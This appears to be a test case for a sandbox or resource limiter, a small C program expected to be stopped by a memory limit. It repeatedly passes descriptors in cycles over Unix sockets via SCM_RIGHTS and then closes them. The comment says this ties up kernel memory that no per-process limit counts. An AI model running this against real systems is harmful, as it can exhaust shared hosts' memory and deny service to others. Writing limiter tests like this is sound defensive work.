// why: descriptors sent through sockets and closed are open nowhere, and count against no process
// end: limit memory | exited 0
// memory: 16
#define _GNU_SOURCE
#include <fcntl.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
static int send_fds(int over, int fd) {
    char control[CMSG_SPACE(sizeof(int) * 250)]; memset(control, 0, sizeof control);
    struct iovec io = {"x", 1};
    struct msghdr m = {.msg_iov = &io, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
    struct cmsghdr *c = CMSG_FIRSTHDR(&m);
    c->cmsg_level = SOL_SOCKET; c->cmsg_type = SCM_RIGHTS; c->cmsg_len = CMSG_LEN(sizeof(int) * 250);
    for (int i = 0; i < 250; i++) memcpy(CMSG_DATA(c) + i * sizeof(int), &fd, sizeof(int));
    return sendmsg(over, &m, MSG_DONTWAIT) > 0;
}
int main(void) {
    for (int i = 0; i < 3000; i++) {
        int p[2], q[2];
        if (socketpair(AF_UNIX, SOCK_DGRAM, 0, p) || socketpair(AF_UNIX, SOCK_DGRAM, 0, q)) break;
        int sent = send_fds(p[0], q[0]);
        // A cycle, which only the kernel's own collector finds.
        send_fds(q[0], p[0]);
        close(p[0]); close(p[1]); close(q[0]); close(q[1]);
        if (!sent) break;
    }
    return 0;
}
